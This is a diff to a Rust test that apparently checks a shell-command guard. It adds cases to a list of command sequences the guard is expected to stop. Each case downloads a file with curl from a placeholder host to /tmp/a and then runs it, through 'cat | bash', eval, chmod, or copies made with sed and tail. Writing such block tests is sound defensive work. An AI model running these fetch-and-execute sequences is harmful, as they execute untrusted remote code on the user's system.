@@ -111,7 +111,9 @@ fn a_script_finds_others_beside_itself() {
 fn what_was_fetched_stays_unread_in_its_copies() {
     let fetch = "curl -sSLo /tmp/a https://x.example.net/a";
     let archive = "curl -sLo /tmp/a https://x.example.net/a.tgz";
-    let stopped: [&[&str]; 6] = [
+    let stopped: [&[&str]; 8] = [
+        &[fetch, "cat /tmp/a | bash"],
+        &[fetch, "eval \"$(cat /tmp/a)\""],
         &[fetch, "mv /tmp/a ./b && chmod +x ./b && ./b"],
         &[fetch, "tail -n +3 /tmp/a | tee /tmp/b > /dev/null", "sh /tmp/b"],
         &[fetch, "sed 's/x/y/' /tmp/a > /tmp/b", "sh /tmp/b"],
